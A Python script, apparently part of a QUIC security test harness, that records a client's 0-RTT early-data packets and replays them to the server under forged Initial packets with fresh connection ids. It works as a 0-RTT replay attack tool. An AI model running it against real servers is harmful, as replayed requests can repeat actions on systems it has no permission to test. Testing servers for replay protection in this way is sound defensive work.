"""Plays an attacker who has recorded what a client sent, and sends its early data again under another connection id.

early_forged.py TICKET_URL URL METHOD PATH: a client returns with a request in early data. Then its ClientHello is sent in
new Initial packets, whose keys are public (RFC 9001 section 5.2). The recorded 0-RTT packets follow in the same datagram, under
their old id. Prints the result of the client, and the number of 0-RTT packets sent again.
"""

import asyncio
import os
import socket
import struct
import sys
from urllib.parse import urlsplit

from aioquic.buffer import Buffer, encode_uint_var
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.packet import QuicPacketType, QuicProtocolVersion, pull_quic_header
from aioquic.tls import Epoch

from early import connection, ticket_of

INITIAL_BYTES = 1200
TAG_BYTES = 16


class Recorder:
    """Records the datagrams before a client's socket."""

    def __init__(self, transport):
        self.transport = transport
        self.sent = []

    def sendto(self, data, address):
        self.sent.append(bytes(data))
        self.transport.sendto(data, address)

    def __getattr__(self, name):
        return getattr(self.transport, name)


def packets(datagram):
    """Packets with long headers: type, source id, bytes."""
    buf = Buffer(data=datagram)
    while not buf.eof() and datagram[buf.tell()] & 0x80:
        start = buf.tell()
        header = pull_quic_header(buf)
        end = start + header.packet_length
        yield header.packet_type, header.source_cid, datagram[start:end]
        buf.seek(end)


def initial(chosen, source, hello):
    """An Initial packet of a client that has chosen this id."""
    frame = b"\x06" + encode_uint_var(0) + struct.pack("!H", 0x4000 | len(hello)) + hello
    head = b"\xc3" + struct.pack("!I", QuicProtocolVersion.VERSION_1)
    head += bytes([len(chosen)]) + chosen + bytes([len(source)]) + source + b"\0"
    number = b"\0\0\0\0"
    payload = frame.ljust(INITIAL_BYTES - len(head) - 2 - len(number) - TAG_BYTES, b"\0")
    head += struct.pack("!H", 0x4000 | (len(number) + len(payload) + TAG_BYTES)) + number
    keys = CryptoPair()
    keys.setup_initial(cid=chosen, is_client=True, version=QuicProtocolVersion.VERSION_1)
    return keys.encrypt_packet(head, payload, 0)


def noise(chosen, source, version):
    """A 0-RTT packet that cannot be decrypted."""
    head = b"\xd0" + struct.pack("!I", version)
    head += bytes([len(chosen)]) + chosen + bytes([len(source)]) + source
    return head + struct.pack("!H", 0x4000 | 40) + os.urandom(40)


async def main(ticket_url, url, method, path):
    ticket = await ticket_of(ticket_url)
    async with connection(url, ticket) as client:
        recorder = Recorder(client._transport)
        client._transport = recorder
        hello = bytes(client._quic._crypto_streams[Epoch.INITIAL].sender._buffer)
        stream = client.head(method, path)
        client.transmit()
        print(await client.outcome(stream))

    recorded = [packet for datagram in recorder.sent for packet in packets(datagram)]
    source = recorded[0][1]
    early = [raw for kind, _, raw in recorded if kind == QuicPacketType.ZERO_RTT]
    server = (urlsplit(ticket_url).hostname, urlsplit(ticket_url).port)
    for raw in early:
        for between in (b"", QuicProtocolVersion.VERSION_1, 0x6B3343CF, 0xFF00001D):
            chosen = os.urandom(8)
            first = initial(chosen, source, hello)
            if between:
                first += noise(chosen, source, between)
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:
                elsewhere.sendto(first + raw, server)
                await asyncio.sleep(0.2)
    print("sent again", len(early))


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
